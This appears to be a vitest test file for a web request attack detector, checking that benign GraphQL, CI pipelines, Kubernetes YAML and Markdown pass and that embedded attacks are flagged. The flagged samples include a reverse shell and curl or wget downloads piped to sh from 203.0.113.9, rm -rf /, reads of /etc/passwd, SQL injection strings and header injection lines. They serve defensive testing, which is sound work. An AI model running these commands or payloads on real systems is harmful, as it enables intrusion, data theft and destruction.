/** Documents of honest work are no attack: GraphQL, YAML, pipelines, Markdown, prose about SQL; and an attack in one of them still is. */
import { expect, test } from 'vitest';
import { analyzeRequests, type HttpRequest } from '../../../analysis/web/index.ts';
import { expectProportion } from '../../support/growth.ts';

const posted = (type: string, body: string): HttpRequest => ({
  method: 'POST',
  target: '/api/x',
  headers: { 'Content-Type': type },
  body,
});
const inJson = (value: unknown) => posted('application/json', JSON.stringify(value));
const judged = (request: HttpRequest) => analyzeRequests([request], 'params');

test.each<[string, HttpRequest]>([
  [
    'gql vars',
    inJson({
      query:
        'query Hero($episode: Episode!, $withFriends: Boolean = false) {\n  hero(episode: $episode) {\n    name\n    friends @include(if: $withFriends) { name }\n  }\n}',
      variables: { episode: 'JEDI', withFriends: true },
    }),
  ],
  [
    'gql frag',
    inJson({
      query:
        'query GetUser($id: ID!) {\n  user(id: $id) { ...UserFields }\n}\n\nfragment UserFields on User {\n  id\n  name\n  email\n  posts(first: 10, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { id title } } }\n}',
      variables: { id: 'VXNlcjox' },
    }),
  ],
  [
    'gql comment',
    inJson({
      query:
        '# Fetch the current viewer\nquery {\n  viewer {\n    login # the handle\n    repositories(first: 5) { nodes { name } }\n  }\n}',
    }),
  ],
  [
    'gql mutation',
    inJson({
      query:
        'mutation AddComment($input: AddCommentInput!) {\n  addComment(input: $input) {\n    clientMutationId\n    commentEdge { node { id body } }\n  }\n}',
      variables: { input: { subjectId: 'MDU6SXNzdWUx', body: 'Thanks, merged. See the docs.' } },
    }),
  ],
  [
    'gql inline',
    inJson({
      query:
        '{ search(query: "language:ts stars:>100", type: REPOSITORY, first: 10) { edges { node { ... on Repository { nameWithOwner } } } } }',
    }),
  ],
  [
    'gql where',
    inJson({
      query:
        'query Users($limit: Int) { users(where: {age: {_gt: 18}, name: {_like: "A%"}}, limit: $limit, order_by: {id: asc}) { id name } }',
      variables: { limit: 10 },
    }),
  ],
  ['gql block', inJson({ query: 'mutation { createPost(body: """\nHello "world"\nIt\'s fine.\n""") { id } }' })],
  [
    'gql delete',
    inJson({ query: 'mutation DeleteUser($id: ID!) { deleteUser(id: $id) { ok } }', variables: { id: '7' } }),
  ],
  [
    'gql where prisma',
    inJson({
      query:
        'query { users(where: { OR: [{ name: { contains: "ann" } }, { email: { endsWith: "@x.example" } }] }) { id } }',
    }),
  ],
  [
    'gql hasura vars',
    inJson({
      query: 'query ($where: users_bool_exp) { users(where: $where) { id } }',
      variables: { where: { name: { _eq: 'ann' }, _or: [{ id: { _in: [1, 2] } }] } },
    }),
  ],
  [
    'gql raw',
    posted(
      'application/graphql',
      'query Q($id: ID!, $host: String) {\n  # one device\n  device(id: $id, host: $host) { id name ... on Server { ip } }\n}',
    ),
  ],
  [
    'gql introspect',
    inJson({
      query:
        'query IntrospectionQuery { __schema { queryType { name } types { ...FullType } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { ...InputValue } } } fragment InputValue on __InputValue { name type { kind } defaultValue }',
    }),
  ],
  [
    'gql env',
    inJson({
      query:
        'query Env($env: String!, $path: String!, $user: ID, $session: ID) { secret(env: $env, path: $path, user: $user, session: $session) { key } }',
    }),
  ],
  [
    'gql sub',
    inJson({
      query:
        'subscription OnEvent($server: ID!, $request: String) { events(server: $server, request: $request) { id, type, at } }',
    }),
  ],
  [
    'gha ci',
    posted(
      'application/yaml',
      'name: CI\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        node: [18, 20]\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci\n      - run: npm test\n',
    ),
  ],
  [
    'gha env',
    posted(
      'text/yaml',
      "name: Deploy\non: workflow_dispatch\nenv:\n  IMAGE: ghcr.io/${{ github.repository }}:${{ github.sha }}\njobs:\n  deploy:\n    if: github.ref == 'refs/heads/main' && github.event_name != 'pull_request'\n    runs-on: ubuntu-latest\n    steps:\n      - name: Log in\n        run: echo \"${{ secrets.TOKEN }}\" | docker login -u ${{ github.actor }} --password-stdin\n      - name: Push\n        run: |\n          docker build -t $IMAGE .\n          docker push $IMAGE\n",
    ),
  ],
  [
    'gha json',
    inJson({
      message: 'add ci',
      content:
        'name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          python -m pip install -r requirements.txt\n          pytest -q\n',
    }),
  ],
  [
    'k8s deploy',
    posted(
      'application/yaml',
      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  labels: {app: web}\nspec:\n  replicas: 3\n  selector:\n    matchLabels:\n      app: web\n  template:\n    metadata:\n      labels:\n        app: web\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n          ports:\n            - containerPort: 80\n          env:\n            - name: DB_HOST\n              value: "db.default.svc"\n',
    ),
  ],
  [
    'k8s multi',
    posted(
      'application/yaml',
      'apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  selector:\n    app: web\n---\n# the ingress\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\nspec:\n  rules:\n    - host: web.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n',
    ),
  ],
  [
    'k8s probe',
    posted(
      'application/yaml',
      'livenessProbe:\n  httpGet:\n    path: /healthz\n    port: 8080\n    httpHeaders:\n      - name: X-Probe\n        value: "1"\n  initialDelaySeconds: 5\nstatus:\n  phase: Running\n',
    ),
  ],
  [
    'k8s cmd',
    posted(
      'application/yaml',
      'spec:\n  containers:\n    - name: job\n      image: busybox\n      command: ["sh", "-c", "echo done"]\n      args:\n        - --verbose\n',
    ),
  ],
  [
    'k8s config',
    posted(
      'application/yaml',
      'kind: ConfigMap\napiVersion: v1\nmetadata:\n  name: cfg\ndata:\n  app.properties: |\n    host=db.example.com\n    user=app\n    date.format=yyyy-MM-dd\n',
    ),
  ],
  [
    'compose',
    posted(
      'application/x-yaml',
      'services:\n  web:\n    image: nginx\n    ports: ["80:80"]\n    environment:\n      - PATH_PREFIX=/app\n      - HOME=${HOME}\n    depends_on: [db]\n  db:\n    image: postgres:16\n    volumes:\n      - data:/var/lib/postgresql/data\n',
    ),
  ],
  [
    'ansible',
    posted(
      'text/yaml',
      '- hosts: web\n  become: true\n  tasks:\n    - name: install nginx\n      apt:\n        name: nginx\n        state: present\n    - name: template\n      template:\n        src: nginx.conf.j2\n        dest: /opt/nginx/nginx.conf\n      when: ansible_os_family == "Debian" and not skip\n',
    ),
  ],
  [
    'openapi',
    posted(
      'application/yaml',
      'openapi: 3.0.0\ninfo:\n  title: Pets\n  version: "1"\npaths:\n  /pets/{id}:\n    get:\n      parameters:\n        - name: id\n          in: path\n          required: true\n          schema: {type: string}\n      responses:\n        "200":\n          description: a pet\n',
    ),
  ],
  [
    'jenkins simple',
    posted(
      'text/x-groovy',
      "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        sh 'make'\n      }\n    }\n    stage('Test') {\n      steps {\n        sh './gradlew test'\n        junit '**/build/test-results/*.xml'\n      }\n    }\n  }\n}\n",
    ),
  ],
  [
    'jenkins env',
    posted(
      'text/plain',
      "pipeline {\n  agent { docker { image 'node:20' } }\n  environment {\n    CI = 'true'\n    VERSION = \"1.0.${env.BUILD_NUMBER}\"\n  }\n  options { timeout(time: 30, unit: 'MINUTES') }\n  stages {\n    stage('Build') { steps { sh 'npm ci && npm run build' } }\n  }\n  post {\n    always { archiveArtifacts artifacts: 'dist/**', allowEmptyArchive: true }\n    failure { mail to: 'team@example.com', subject: \"Failed: ${currentBuild.fullDisplayName}\", body: 'See the log' }\n  }\n}\n",
    ),
  ],
  [
    'jenkins script',
    posted(
      'text/plain',
      "@Library('shared') _\nnode('linux') {\n  checkout scm\n  def version = readFile('VERSION').trim()\n  stage('Build') {\n    withCredentials([string(credentialsId: 'token', variable: 'TOKEN')]) {\n      sh \"mvn -B -Drevision=${version} clean package\"\n    }\n  }\n  if (env.BRANCH_NAME == 'main') {\n    build job: 'deploy', parameters: [string(name: 'VERSION', value: version)]\n  }\n}\n",
    ),
  ],
  [
    'jenkins json',
    inJson({
      script:
        "// build\npipeline {\n  agent any\n  stages {\n    stage('Build') { when { branch 'main' } steps { echo \"Building ${params.NAME}\" } }\n  }\n}",
    }),
  ],
  [
    'jenkins xml',
    posted(
      'application/xml',
      '<?xml version="1.0"?><flow-definition><definition class="org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition"><script>pipeline { agent any; stages { stage(\'Build\') { steps { echo \'hi\' } } } }</script></definition></flow-definition>',
    ),
  ],
  [
    'groovy gradle',
    posted(
      'text/plain',
      "plugins {\n  id 'java'\n}\nrepositories { mavenCentral() }\ndependencies {\n  implementation 'com.google.guava:guava:33.0.0-jre'\n  testImplementation(platform('org.junit:junit-bom:5.10.0'))\n}\ntest { useJUnitPlatform() }\n",
    ),
  ],
  [
    'sql doc',
    inJson({
      text: 'To list customers use SELECT name FROM customers WHERE active = 1. The query returns the names, and you can add ORDER BY name to sort them.',
    }),
  ],
  [
    'sql doc2',
    posted(
      'text/plain',
      'Use the `SELECT` statement to read rows.  A `JOIN` combines two tables, and `GROUP BY` groups the rows that you want to count.',
    ),
  ],
  [
    'sql doc3',
    inJson({
      body: 'How do I union select statements in SQL? I want to combine the results of the two queries with UNION ALL.',
    }),
  ],
  [
    'sql md',
    posted(
      'text/markdown',
      '# Reports\n\nRun this to see the totals:\n\n```sql\nSELECT region, SUM(amount) AS total\nFROM sales\nGROUP BY region\nORDER BY total DESC;\n```\n\nThe result is then shown to the team.\n',
    ),
  ],
  [
    'md bash',
    posted(
      'text/markdown',
      '# Install\n\nClone the repository and run the script:\n\n```bash\ngit clone https://github.com/acme/tool.git\ncd tool\nnpm install\nnpm start\n```\n\nThen open the page in your browser.\n',
    ),
  ],
  [
    'md inline',
    inJson({ body: 'Run `npm test` before you push, and use `git rebase -i main` to clean up the branch.' }),
  ],
  [
    'md js',
    posted(
      'text/markdown',
      '## Usage\n\n```js\nimport { render } from "lib";\n\nconst el = render({ name: "x" });\nel.on("click", () => console.log("clicked"));\n```\n\nThat is all you need.\n',
    ),
  ],
  [
    'md table',
    posted(
      'text/markdown',
      '| Name | Type | Default |\n| --- | --- | --- |\n| `host` | string | `localhost` |\n| `date` | string | none |\n\n> Note: the option `id` is required -- see below.\n',
    ),
  ],
  [
    'md html',
    posted(
      'text/markdown',
      'Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy.\n\n- [x] done\n- [ ] open\n\n1. one\n2. two\n\n**Bold** and *italics*.\n',
    ),
  ],
  [
    'md py',
    inJson({
      body: 'Here is how:\n\n```python\nimport os\n\ndef main():\n    print("hello")\n\nif __name__ == "__main__":\n    main()\n```\n',
    }),
  ],
  [
    'gha cond',
    posted(
      'application/yaml',
      "on:\n  schedule:\n    - cron: '0 3 * * 1'\njobs:\n  stale:\n    if: ${{ github.event_name == 'schedule' || contains(github.event.head_commit.message, '[stale]') }}\n    runs-on: ubuntu-latest\n    permissions: {issues: write}\n    steps:\n      - uses: actions/stale@v9\n        with:\n          stale-issue-message: 'This issue is stale because it has been open 30 days with no activity.'\n",
    ),
  ],
  [
    'helm tpl',
    posted(
      'application/yaml',
      'metadata:\n  name: {{ include "app.fullname" . }}\n  labels:\n    {{- include "app.labels" . | nindent 4 }}\nspec:\n  replicas: {{ .Values.replicaCount }}\n',
    ),
  ],
  [
    'gha six',
    inJson({
      content:
        'name: CI\non: [push]\njobs:\n test:\n  runs-on: ubuntu-latest\n  steps:\n   - run: |\n      python -m pip install -r requirements.txt\n      npm ci && npm run build\n      make test || exit 1\n',
    }),
  ],
  [
    'gitlab ci',
    posted(
      'application/yaml',
      'stages: [build, test]\nbuild:\n  stage: build\n  image: node:20\n  script:\n    - npm ci\n    - npm run build && npm pack\n  only: [main]\n',
    ),
  ],
  [
    'yaml col0',
    posted(
      'text/plain',
      'date: 2026-11-29\nhost: web-1\nstatus: ok\nsubject: weekly report\nto: team\nlocation: westeurope\nuser: ann\n',
    ),
  ],
  [
    'gql get',
    inJson({
      query:
        'query($get: Boolean!, $files: [FileInput!]!, $cookie: String = "x") { a(files: $files, get: $get) { id } }',
    }),
  ],
  [
    'gql or',
    inJson({
      query: '{ products(filter: {or: [{price: {lt: 10}}, {tag: {in: ["a", "b"]}}]}, sort: "price desc") { id } }',
    }),
  ],
  [
    'jenkins par',
    posted(
      'text/plain',
      "// deploys the service\n@Library('x') _\npipeline {\n  agent { label 'linux && docker' }\n  triggers { cron('H 2 * * *') }\n  parameters { choice(name: 'ENV', choices: ['dev', 'prod'], description: 'where to') }\n  stages {\n    stage('All') {\n      parallel {\n        stage('A') { steps { sh \"\"\"\n          npm ci\n          npm test -- --ci\n        \"\"\" } }\n        stage('B') { steps { sh 'mvn -B verify | tee build.log' } }\n      }\n    }\n    stage('Deploy') {\n      when { expression { return params.ENV == 'prod' && env.BRANCH_NAME == 'main' } }\n      steps { script { def out = sh(script: 'git rev-parse HEAD', returnStdout: true).trim(); echo \"at ${out}\" } }\n    }\n  }\n}\n",
    ),
  ],
  [
    'md fence sql',
    inJson({
      body: 'The query below is slow, can we add an index for it?\n\n```sql\nSELECT * FROM orders\nWHERE created > now() - interval 1 day\nLIMIT 10\n```\n\nThanks!',
    }),
  ],
  [
    'md spans',
    inJson({
      body: 'If the `id` of the order is `null`, we return `false` and log the `date`; see `src/main.ts` in this repository.',
    }),
  ],
  [
    'sql doc4',
    inJson({
      body: 'An INSERT INTO statement adds a row to the table, while DELETE FROM removes the rows that match. You can use DROP TABLE to remove it all.',
    }),
  ],
  [
    'sql doc5',
    posted(
      'text/plain',
      "In the report we GROUP BY region and ORDER BY total, which is what the team asked for. It's the same as last week.",
    ),
  ],
  [
    'md diff',
    inJson({ body: '## Changes\n\n- fix the parser\n- add tests\n\n```diff\n-const a = 1;\n+const a = 2;\n```\n' }),
  ],
  [
    'md sh2',
    inJson({
      body: 'Steps to reproduce:\n\n```sh\n$ mkdir demo && cd demo\n$ npm init -y\n$ echo hello > a.txt\n$ node index.js\n```\n\nExpected: no error.',
    }),
  ],
])('%s is benign', (_name, request) => {
  expect(judged(request)).toMatchObject({ verdict: 'benign' });
});

const PIPELINE = (step: string) =>
  `pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n        ${step}\n      }\n    }\n  }\n}\n`;
const MARKDOWN = (code: string) =>
  `# Notes\n\nThis is what you have to run in the shell:\n\n\`\`\`sh\n${code}\n\`\`\`\n`;
const YAML = (line: string) => `name: x\nkind: y\nspec: z\n${line}\n`;
test.each<[string, string]>([
  ['GraphQL with a superglobal', '{ a(x: $_SERVER["HTTP_X"]) { id } }'],
  ['an include of PHP', '{ a } @include($_GET["f"])'],
  ['an include behind a directive', '{ a @include(if: $b) } include("/tmp/x.php")'],
  ['a file of PHP that is read', "readfile('config.php')"],
  ['a download in a pipeline', PIPELINE("sh 'curl http://203.0.113.9/x | sh'")],
  ['a shell in a pipeline', PIPELINE("sh 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'")],
  ['an absolute path in a pipeline', PIPELINE("sh 'rm -rf /'")],
  ['a query in a pipeline', PIPELINE("sh 'x' UNION SELECT name FROM users-- '")],
  ['a command in Markdown', MARKDOWN('rm -rf /')],
  ['a download in Markdown', MARKDOWN('wget -qO- http://203.0.113.9/x | sh')],
  ['a span that runs something', 'This is the one that you have to read: `cat /etc/passwd` and more'],
  ['a span with a download', 'This is the one that you have to read: `curl 203.0.113.9` and more'],
  ['a query behind prose', "this is the name that you want ' UNION SELECT name FROM users-- "],
  ['a query that closes a parenthesis', 'this is the name that you want) UNION SELECT name FROM users'],
  ['a second statement behind prose', 'this is the name that you want; DROP TABLE users'],
  ['a query behind a number', '1 is the name that you want in the list UNION SELECT name FROM users'],
  ['a query behind NULL', 'null union select name, the, is, that, this, you from users'],
  ['a comment like a glob', "admin'/*.js"],
  ['a query in comments like globs', "'union/**/select/**/name/**/from/**/users/*'"],
  ['a comment like an argument', "admin' -- --x"],
  ['a comment like a heading', "admin' or 1=1\n# the rest"],
  ['a header in YAML', YAML('Set-Cookie: session=1')],
  ['a redirection in YAML', YAML('Location: https://evil.example/')],
  ['a recipient in YAML', YAML('Bcc: anna@evil.example')],
  ['a system file in YAML', YAML('path: /etc/passwd')],
])('%s is found', (_name, text) => {
  expect(judged(inJson({ text })).verdict).not.toBe('benign');
  expect(judged(posted('text/plain', text)).verdict).not.toBe('benign');
});

test.each(['a: b\n', 'stage (', '| --- ', '`a` ', '```\n', '\n', 'a; ', 'npm test -- '])(
  'documents of %j cost time in proportion to their length (ATK-A9)',
  async (unit) => {
    await expectProportion(unit, 4_096, (text) => judged(inJson({ text: `pipeline { ${text} the is you it }` })));
  },
);
